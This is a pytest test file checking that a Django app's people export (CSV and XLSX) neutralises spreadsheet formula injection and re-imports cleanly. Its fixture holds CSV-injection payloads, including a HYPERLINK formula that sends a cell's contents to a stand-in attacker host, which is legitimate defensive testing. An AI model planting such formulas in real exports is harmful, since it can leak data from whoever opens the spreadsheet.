"""Issue 9, item 7: the admin's people export neutralises formulas, as every other export does
(core.spreadsheet), and importing the export gives the same people back."""

import io

import openpyxl
import pytest

from organisation.models import User
from organisation.resources import PersonResource
from tests.factories import PersonFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "first_name": '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "last_name": "@SUM(A1:A9)",
    "job_title": "+1",
    "employee_number": "-2",
}


@pytest.fixture
def hostile(service_area):
    PersonFactory(email="tab@northfield.gov.uk", first_name="\t=1+1", last_name="\rCR", job_title="Officer")
    return PersonFactory(email="hostile@northfield.gov.uk", service_area=service_area, **HOSTILE)


def exported_cells(file_format: str) -> list:
    dataset = PersonResource().export(User.objects.order_by("email"))
    if file_format == "csv":
        return [cell for row in dataset.dict for cell in row.values()]
    book = openpyxl.load_workbook(io.BytesIO(dataset.export("xlsx")))
    return [cell.value for row in book.active.iter_rows(min_row=2) for cell in row]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_no_exported_cell_starts_like_a_formula(hostile, file_format):
    # An XLSX file stores a carriage return as a line feed.
    cells = [c.replace("\r", "\n") for c in exported_cells(file_format) if isinstance(c, str) and c]
    assert not [c for c in cells if c[0] in "=+-@\t\r\n"]
    for value in (*HOSTILE.values(), "\t=1+1", "\rCR"):
        assert ("'" + value).replace("\r", "\n") in cells


def test_the_export_imports_back_unchanged(hostile):
    dataset = PersonResource().export(User.objects.order_by("email"))
    result = PersonResource().import_data(dataset, use_transactions=True)
    assert not result.has_errors() and not result.has_validation_errors()
    hostile.refresh_from_db()
    assert {name: getattr(hostile, name) for name in HOSTILE} == HOSTILE
